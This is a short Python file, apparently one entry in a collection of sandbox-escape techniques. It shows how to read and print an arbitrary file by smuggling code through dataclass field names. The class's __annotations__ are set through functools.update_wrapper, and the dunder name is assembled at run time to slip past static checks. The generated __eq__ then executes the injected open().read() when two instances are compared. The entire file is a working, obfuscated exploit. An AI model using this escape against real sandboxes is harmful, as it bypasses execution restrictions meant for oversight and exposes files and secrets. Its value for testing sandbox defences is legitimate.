# family: files
# Escape: functools.update_wrapper with its default names copies __annotations__ onto any object, a class
# included; the source is an attribute holding a SimpleNamespace whose keyword is built at run time (**
# hides it). dataclasses then generates __eq__ from those "field names" as source text, which opens and
# prints a file when two records are compared.
import dataclasses
import functools
import types


class Record:
    x = 1


def tool(path: str) -> bool:
    edge = "_" * 2
    fields = {"x,print(open(" + repr(path) + ").read())": int}
    box = types.SimpleNamespace(src=types.SimpleNamespace(**{edge + "annotations" + edge: fields}))
    functools.update_wrapper(Record, box.src, updated=())
    dataclasses.dataclass(init=False, repr=False)(Record)
    return Record() == Record()
